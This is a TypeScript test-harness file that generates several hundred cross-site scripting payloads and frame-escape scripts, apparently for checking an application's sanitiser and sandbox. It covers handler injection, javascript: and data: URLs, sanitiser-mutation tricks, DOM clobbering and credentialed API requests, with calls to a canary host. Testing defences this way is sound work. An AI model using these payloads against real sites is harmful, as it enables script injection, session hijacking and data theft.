/**
 * Markup and scripts that would do harm: some six hundred, made of the ways in that are known times what they would do. Whatever
 * runs in the app's own document calls `stetFired`; whatever reaches the network asks the canary.
 */

export type Payload = { readonly name: string; readonly text: string }

/** What a script would do: call home from the page, from its parents, or over the network. `N` is the payload's number. */
function deeds(canary: string): readonly string[] {
  return ["stetFired(N)", "top.stetFired(N)", `new Image().src='${canary}/image?N'`, `fetch('${canary}/fetch?N',{mode:'no-cors'})`]
}

const HANDLERS = ["onerror", "onload", "onfocus", "onclick", "onmouseover", "onanimationstart", "ontoggle", "onbegin", "onpointerenter", "onscroll"]

/** Elements whose handler of this kind is called without anybody doing anything, or nearly. */
const CARRIERS: readonly ((handler: string, code: string) => string)[] = [
  (handler, code) => `<img src=x ${handler}="${code}">`,
  (handler, code) => `<svg ${handler}="${code}"><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  (handler, code) => `<details open ${handler}="${code}"><summary>x</summary></details>`,
  (handler, code) => `<input autofocus ${handler}="${code}">`,
  (handler, code) => `<video><source ${handler}="${code}"></video>`,
  (handler, code) => `<body ${handler}="${code}">`,
  (handler, code) => `<math><mtext><table><mglyph><style><img src=x ${handler}="${code}">`,
]

function byHandler(canary: string): readonly string[] {
  return CARRIERS.flatMap((carrier) => HANDLERS.flatMap((handler) => deeds(canary).map((deed) => carrier(handler, deed))))
}

/** Addresses that are scripts. */
const ADDRESSES = [
  "javascript:CODE",
  "JaVaScRiPt:CODE",
  "java\tscript:CODE",
  " javascript:CODE",
  "\u0001javascript:CODE",
  "javascript&colon;CODE",
  "&#106;avascript:CODE",
  "data:text/html,<script>CODE</script>",
  "data:text/html;base64,PHNjcmlwdD5zdGV0RmlyZWQoMCk8L3NjcmlwdD4=",
  "vbscript:CODE",
  "blob:CODE",
  "//evil.example/%2f..",
]
const PLACES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}" id=go>go</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>send</button></form>`,
  (address) => `<button form=x formaction="${address}">send</button>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>go</text></a></svg>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<math href="${address}">go</math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `[go](${address})`,
  (address) => `![go](${address})`,
]

function byAddress(canary: string): readonly string[] {
  const [first = ""] = deeds(canary)
  return PLACES.flatMap((place) => ADDRESSES.map((address) => place(address.replace("CODE", first))))
}

/** Where sanitisers have been fooled: what is read twice, raw texts, namespaces, templates, names of the page's own. */
function byMutation(canary: string): readonly string[] {
  return deeds(canary).flatMap((code) => [
    `<script>${code}</script>`,
    `<script type=module>${code}</script>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<svg><script>${code}</script></svg>`,
    `<svg><style><img src=x onerror="${code}"></style></svg>`,
    `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
    `<textarea><p title="</textarea><img src=x onerror=${code}>"></textarea>`,
    `<title><p title="</title><img src=x onerror=${code}>"></title>`,
    `<style><p title="</style><img src=x onerror=${code}>"></style>`,
    `<xmp><p title="</xmp><img src=x onerror=${code}>"></xmp>`,
    `<template><img src=x onerror="${code}"></template>`,
    `<template shadowrootmode=open><img src=x onerror="${code}"></template>`,
    `<div><template shadowrootmode=open><script>${code}</script></template></div>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${code}"></annotation-xml></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${code}">`,
    `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
    `<select><iframe></select><img src=x onerror="${code}">`,
    `<!--><img src=x onerror="${code}">-->`,
    `<![CDATA[><img src=x onerror="${code}">]]>`,
    `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
    `<iframe srcdoc="<script>${code.replaceAll('"', "&quot;")}</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;"></iframe>`,
    `<link rel=stylesheet href="data:text/css,*{background:url(${canary}/css?N)}">`,
    `<base href="${canary}/"><script src=base.js></script>`,
    `<div style="background:url('${canary}/style?N');position:fixed;inset:0">cover</div>`,
    `<style>@import '${canary}/import?N'; input[value^=a]{background:url(${canary}/leak?N)}</style>`,
    `<p data-x='"><img src=x onerror="${code}">'>x</p>`,
    `\`\`\`html\n<img src=x onerror="${code}">\n\`\`\`\n<img src=x onerror="${code}">`,
    `$\\href{javascript:${code}}{x}$ $\\htmlData{x=y}{z}$ $\\includegraphics{${canary}/tex?N}$`,
    `$$\\unicode{<img src=x onerror="${code}">}$$`,
    `[a]: javascript:${code}\n\n[a] <javascript:${code}> ![x][a]`,
    `<a href="x" target=_top onclick="${code}" autofocus onfocus="${code}" tabindex=1>x</a>`,
    `| a |\n|--|\n| <img src=x onerror="${code}"> |`,
    `\u001b]8;;javascript:${code}\u0007link\u001b]8;;\u0007 \u001b[31m<img src=x onerror="${code}">`,
    `'"><img src=x onerror="${code}">`,
    `</pre></code></div><img src=x onerror="${code}">`,
  ])
}

const NAMES = [
  "config",
  "location",
  "document",
  "__proto__",
  "constructor",
  "root",
  "stet",
  "trustedTypes",
  "stetRuntime",
  "body",
  "head",
  "cookie",
  "api",
  "parent",
]

/** Elements that would stand for something of the page's own by their name. */
function byName(canary: string): readonly string[] {
  return NAMES.flatMap((name) => [
    `<a id="${name}" href="${canary}/clobbered?N">x</a><a id="${name}" name="src" href="${canary}/clobbered?N">x</a>`,
    `<form id="${name}" name="${name}"><input name="attributes"><input name="parentNode"><img src=x onerror="stetFired(N)"></form>`,
    `<iframe name="${name}" srcdoc="<script>parent.stetFired(N)</script>"></iframe>`,
    `<img name="${name}" src="${canary}/named?N"><object id="${name}"></object>`,
  ])
}

/** From inside a frame outwards: what an opaque origin and its policy must stop. */
export function escapes(canary: string, app: string): readonly Payload[] {
  return ESCAPES.map((code, index) => ({
    name: `escape ${index}: ${code.slice(0, 60)}`,
    text: code.replaceAll("CANARY", canary).replaceAll("APP", app),
  }))
}

const ESCAPES: readonly string[] = [
  "top.location = 'CANARY/top'",
  "parent.location.href = 'CANARY/parent'",
  "location = 'CANARY/self'",
  "location.replace('APP/api/v1/me')",
  "open('CANARY/popup')",
  "open('APP/', '_top')",
  "const a = document.createElement('a'); a.href = 'CANARY/link'; a.target = '_top'; document.body.append(a); a.click()",
  "const a = document.createElement('a'); a.href = 'CANARY/blank'; a.target = '_blank'; document.body.append(a); a.click()",
  "const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; document.body.append(a); a.click()",
  "const f = document.createElement('form'); f.action = 'CANARY/form'; f.target = '_top'; document.body.append(f); f.submit()",
  "const f = document.createElement('form'); f.action = 'APP/api/v1/sign-out'; f.method = 'post'; document.body.append(f); f.submit()",
  "const i = document.createElement('iframe'); i.src = 'CANARY/frame'; document.body.append(i)",
  "const i = document.createElement('iframe'); i.src = 'APP/frames/output?allow=localhost'; document.body.append(i)",
  "const i = document.createElement('iframe'); i.srcdoc = '<img src=CANARY/srcdoc>'; document.body.append(i)",
  "const i = document.createElement('iframe'); i.srcdoc = '<script>fetch(\"CANARY/inner\")<\\/script>'; document.body.append(i)",
  "const s = document.createElement('script'); s.src = 'CANARY/script.js'; document.head.append(s)",
  "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'CANARY/style.css'; document.head.append(l)",
  "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'CANARY/prefetch'; document.head.append(l)",
  "const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = 'CANARY/preload.js'; document.head.append(l)",
  "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=CANARY/refresh'; document.head.append(m)",
  "import('CANARY/module.js').catch(() => 0)",
  "fetch('CANARY/fetch', { mode: 'no-cors' }).catch(() => 0)",
  "fetch('APP/api/v1/me', { credentials: 'include' }).then((r) => top.stetFired('read the api'))",
  "const x = new XMLHttpRequest(); x.open('POST', 'CANARY/xhr'); x.send('x')",
  "navigator.sendBeacon('CANARY/beacon', 'x')",
  "new EventSource('CANARY/events')",
  "new WebSocket('CANARY/socket'.replace('http', 'ws'))",
  "new Worker(URL.createObjectURL(new Blob(['fetch(\"CANARY/worker\")'])))",
  "new Worker(URL.createObjectURL(new Blob(['importScripts(\"CANARY/worker.js\")'])))",
  "navigator.serviceWorker && navigator.serviceWorker.register('APP/sw.js')",
  "new Image().src = 'CANARY/image'",
  "new Audio('CANARY/audio').play()",
  "document.body.style.background = 'url(CANARY/css)'",
  "new FontFace('x', 'url(CANARY/font)').load().catch(() => 0)",
  "parent.document.body.innerHTML = 'x'",
  "parent.stetFired('parent')",
  "top.eval('stetFired(1)')",
  "parent.postMessage({ say: 'link', address: 'javascript:stetFired(1)' }, '*')",
  "parent.postMessage({ do: 'show' }, '*')",
  "for (let i = 0; i < 5000; i++) parent.postMessage({ say: 'size', id: 'x', height: 1e9 }, '*')",
  "document.cookie = 'x=1'",
  "localStorage.setItem('x', '1')",
  "indexedDB.open('x')",
  "alert(1); confirm(2); prompt(3); print()",
  "document.documentElement.requestFullscreen().catch(() => 0)",
  "navigator.clipboard.writeText('x').catch(() => 0)",
  "document.domain = 'localhost'",
  "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }).createOffer()",
  "const i = document.createElement('iframe'); document.body.append(i); new i.contentWindow.RTCPeerConnection()",
  "Object.defineProperty(Object.prototype, 'then', { get() { return undefined } }); Object.prototype.isShown = true",
  "MessagePort.prototype.postMessage = function () { throw 1 }",
  "window.addEventListener('message', (event) => event.source === parent && parent.stetFired(event.data))",
  "document.body.style.cssText = 'position:fixed;inset:-9999px;height:1000000px;z-index:2147483647;background:red'",
  "document.querySelectorAll('script').forEach((s) => s.remove()); document.open(); document.write('<img src=CANARY/written>')",
  "history.pushState({}, '', 'APP/frames/output?allow=evil.example')",
  "setTimeout('new Image().src=\"CANARY/late\"', 50)",
  "document.execCommand('copy')",
  "const d = document.createElement('dialog'); document.body.append(d); d.showModal()",
  "close(); stop(); parent.close()",
  "Element.prototype.closest = () => parent; JSON.stringify = () => '{}'",
]

export function payloads(canary: string): readonly Payload[] {
  const all = [...byHandler(canary), ...byAddress(canary), ...byMutation(canary), ...byName(canary), ...scenes(canary)]
  return all.map((text, index) => ({ name: `payload ${index}`, text: text.replaceAll(/\bN\b/g, String(index)) }))
}

/** Each way in once more, in the middle of text that looks like an output. */
function scenes(canary: string): readonly string[] {
  const code = deeds(canary)[0] ?? ""
  const inner = [
    `<img src=x onerror=${code}>`,
    `<svg onload=${code}>`,
    `<a href="javascript:${code}">x</a>`,
    `<iframe srcdoc="<script>parent.${code}</script>">`,
  ]
  const around: readonly ((text: string) => string)[] = [
    (text) => `# Heading ${text}\n\n${text}`,
    (text) => `- ${text}\n  - ${text}`,
    (text) => `> ${text}`,
    (text) => `**${text}** _${text}_ \`${text}\``,
    (text) => `<table class="dataframe"><thead><tr><th>${text}</th></tr></thead><tbody><tr><td>${text}</td></tr></tbody></table>`,
    (text) => `<div>${text}<p>1 rows × 1 columns</p></div>`,
    (text) => `<div class="alert alert-info" id="${text}">${text}</div>`,
    (text) => `${text}\n\n[^1]: ${text}`,
    (text) => `<b>${text}</b>`.repeat(3),
    (text) => `\u202e${text}\u202c`,
    (text) => `%3C${encodeURIComponent(text)} ${text}`,
    (text) => `Traceback (most recent call last):\n  File "${text}", line 1\n${text}`,
  ]
  return around.flatMap((place) => inner.map(place))
}
